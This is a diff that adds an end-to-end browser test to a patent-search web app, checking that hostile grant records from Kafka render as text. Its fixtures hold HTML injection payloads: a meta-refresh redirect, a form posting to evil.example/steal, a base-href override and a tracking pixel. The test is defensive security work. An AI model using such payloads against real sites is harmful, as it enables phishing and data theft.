@@ -404,3 +404,80 @@ def test_a_service_not_ready_says_so(browser, corpus, encoder, token):
         page.context.close()
     finally:
         waiting.stop(grace=0)
+
+
+HOSTILE_TITLE = ('Bottle <meta http-equiv="refresh" content="0;url=http://evil.example/">'
+                 '<dialog open><form action="http://evil.example/steal"><input name="t">'
+                 '</form></dialog><base href="http://evil.example/"><!--')
+
+
+def test_hostile_grants_through_the_topic_render_as_text_and_nothing_leaves_the_origin(
+        browser, encoder, tiny_model_dir, kafka_settings, tmp_path, token):
+    """A librdkafka producer that is not ours writes grants whose free text is markup (it
+    passes validation: titles are text) and grants whose coded fields are markup (refused
+    at decode). The page shows the first as text, never navigates, posts or loses a page."""
+    from harness.services import make_bundle, produce_foreign, publish, settings
+    from patentclip.imagestore import LocalImageStore
+    from patentclip.v1 import grant_pb2
+    from services.embedder.consumer import GrantConsumer
+
+    bundle = make_bundle(tmp_path / "bundles", patents=3, seed=11)
+    images = tmp_path / "images"
+    published = publish(kafka_settings, images, bundle)
+    first = sorted(p.name for p in images.iterdir())[0]
+    good = grant_pb2.Grant.FromString(LocalImageStore(images).get(
+        LocalImageStore(images).uri_for(first, "grant.pb")))
+
+    def event(number: str, change) -> tuple[bytes, bytes]:
+        grant = grant_pb2.Grant()
+        grant.CopyFrom(good)
+        grant.patent_number = number
+        change(grant)
+        return number.encode(), grant_pb2.GrantEvent(schema_version=1,
+                                                      grant=grant).SerializeToString()
+
+    def markup_text(g):
+        g.title = HOSTILE_TITLE
+        g.claim = '<img src="http://evil.example/pixel.png">' + g.claim
+        for f in g.figures:
+            f.description = '<a href="http://evil.example/">' + f.description + "</a>"
+
+    def markup_figure(g):
+        g.sheets[0].figure_numbers[:] = ['<meta http-equiv="refresh" content="0;url=//x">']
+
+    def markup_locarno(g):
+        g.locarno.code = "<!--"
+    produce_foreign(kafka_settings, [event("D0999201", markup_text),
+                                     event("D0999202", markup_figure),
+                                     event("D0999203", markup_locarno)])
+    store = PatentStore(str(tmp_path / "patents.db"), prefix="hostileweb")
+    consumer = GrantConsumer(settings(kafka_settings, store.uri, tiny_model_dir, images,
+                                      "hostileweb"), encoder, store, LocalImageStore(images))
+    summary = consumer.run(until_caught_up=True)
+    assert summary.events == published.published + 3
+    assert summary.dead_lettered == {"invalid_grant": 2}
+    server = _server(store, images, token[1], encoder)
+    page = _page(browser, server, token[0])
+    try:
+        _search_text(page, "bottle")
+        titles = page.eval_on_selector_all("#results .card .title",
+                                           "nodes => nodes.map(n => n.textContent)")
+        assert HOSTILE_TITLE in titles  # shown as the text it is
+        assert len(titles) == published.published + 1  # every result card rendered
+        assert page.evaluate("""() => document.querySelectorAll(
+            '#results meta, #results dialog, #results form, #results base, #results a').length
+            """) == 0
+        card = page.locator(".card", has_text="D0999201")
+        card.locator("[data-act=open]").click()
+        page.wait_for_selector("#patent-view[open] figure.sheet")
+        assert HOSTILE_TITLE in page.text_content("#patent-title")
+        assert page.evaluate("() => document.querySelectorAll('#patent-view img[src^=\"http\"],"
+                             " #patent-view meta, #patent-view form').length") == 0
+        page.keyboard.press("Escape")
+        _search_text(page, "bottle")  # the page still searches
+        assert page.url.startswith(f"http://127.0.0.1:{server.http.port}/")
+    finally:
+        page.context.close()
+        server.stop(grace=1)
+        store.close()
+    _stays_on_origin(page, server)
